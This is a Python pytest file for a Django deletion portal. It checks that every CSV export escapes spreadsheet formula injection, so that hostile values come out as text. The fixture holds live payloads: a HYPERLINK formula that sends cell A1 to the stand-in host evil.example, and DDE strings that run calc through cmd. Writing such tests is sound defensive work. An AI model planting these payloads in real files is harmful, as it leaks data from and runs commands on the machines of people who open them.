"""RELIABILITY 23 for CSV: no cell of any CSV the portal serves reaches a spreadsheet as a formula.

Every URL is walked (tests/security/urlwalk.py) by a customer user and a staff admin; every
answer that is a CSV is read back, and its cells checked against OWASP's rule (no cell starts
with =, +, -, @, a tab or a carriage return). The data behind them carries a formula in every
column that holds text: the customer's name, the approver's name, run ids, file names, Extend's
request ids, and every text column of the audit trail.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.utils import timezone

from deletions.accounts import roles
from deletions.models import (
    Approval,
    AuditEvent,
    DeletionItem,
    DeletionRequest,
    Membership,
    Source,
)
from tests.factories import customer_user, staff_user
from tests.helpers import force_status, submitted_request
from tests.security.urlwalk import Objects, urls

# OWASP's rule, stated apart from the code: a cell starting with any of these is a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CUSTOMER_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
APPROVER_NAME = "=cmd|' /C calc'!A0"
RUN_IDS = ("+1+1", "\t=2+2")
FILE_NAMES = ("@SUM(1+1)*cmd|' /C calc'!A0", "\r=3+3")
REQUEST_IDS = ("-4+4", "=5+5")
AUDIT_TEXT = {
    "actor_label": "@actor",
    "action": "=action()",
    "object_type": "+type",
    "object_id": "-42+1",
}
HOSTILE = (CUSTOMER_NAME, APPROVER_NAME, *RUN_IDS, *FILE_NAMES, *REQUEST_IDS, *AUDIT_TEXT.values())


@pytest.fixture
def hostile_world(workspace, customer):
    customer.name = CUSTOMER_NAME
    customer.save(update_fields=["name"])
    member = customer_user(customer, username="csv-member")
    # The walk fills service-account URLs with one made by an admin of the customer.
    customer_user(customer, username="csv-customer-admin", role=Membership.Role.ADMIN)
    approver = staff_user(roles.APPROVER, username="csv-approver", first_name=APPROVER_NAME)
    staff_admin = staff_user(roles.ADMIN, username="csv-admin")
    req = submitted_request(workspace, customer, member, runs=2, prefix="csv_")
    now = timezone.now()
    for item, run_id, file_name, request_id in zip(
        req.items.order_by("id"), RUN_IDS, FILE_NAMES, REQUEST_IDS, strict=True
    ):
        item.parse_run.run_id, item.parse_run.file_name = run_id, file_name
        item.parse_run.save(update_fields=["run_id", "file_name"])
        DeletionItem.objects.filter(pk=item.pk).update(
            status=DeletionItem.Status.DELETED, confirmed_at=now, last_request_id=request_id
        )
    Approval.objects.create(request=req, approver=approver, decision=Approval.Decision.APPROVE)
    req = force_status(
        req,
        DeletionRequest.Status.COMPLETED,
        deleted_count=2,
        approved_at=now,
        started_at=now,
        finished_at=now,
    )
    AuditEvent.objects.create(source=Source.WEB, request=req, customer=customer, **AUDIT_TEXT)
    objects = Objects(
        customer=customer,
        workspace=workspace,
        request=req,
        member=customer_user(customer, username="csv-colleague"),
        staff=approver,
    )
    return objects, {"member": member, "staff_admin": staff_admin}


def csv_answers(objects: Objects, user) -> dict[str, list[list[str]]]:
    """Every URL's GET answer that is a CSV, read back as rows, by route name."""
    client = Client(raise_request_exception=False)
    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    found: dict[str, list[list[str]]] = {}
    for route, url in urls(objects):
        if route.name in ("logout", "admin:logout"):
            continue
        response = client.get(url)
        if not response.get("Content-Type", "").startswith("text/csv"):
            continue
        body = b"".join(response) if response.streaming else response.content
        found[route.name] = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    return found


def test_no_csv_cell_starts_a_formula_and_every_hostile_value_is_kept_as_text(hostile_world):
    objects, users = hostile_world
    answers = {}
    for user in users.values():
        answers.update(csv_answers(objects, user))

    assert {"customer:receipt_csv", "console:audit_export"} <= set(answers), set(answers)
    cells = [cell for rows in answers.values() for row in rows for cell in row]
    formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not formulas, f"cells a spreadsheet would run: {formulas}"
    for value in HOSTILE:
        assert any(cell.startswith("'" + value) for cell in cells), f"{value!r} is missing"
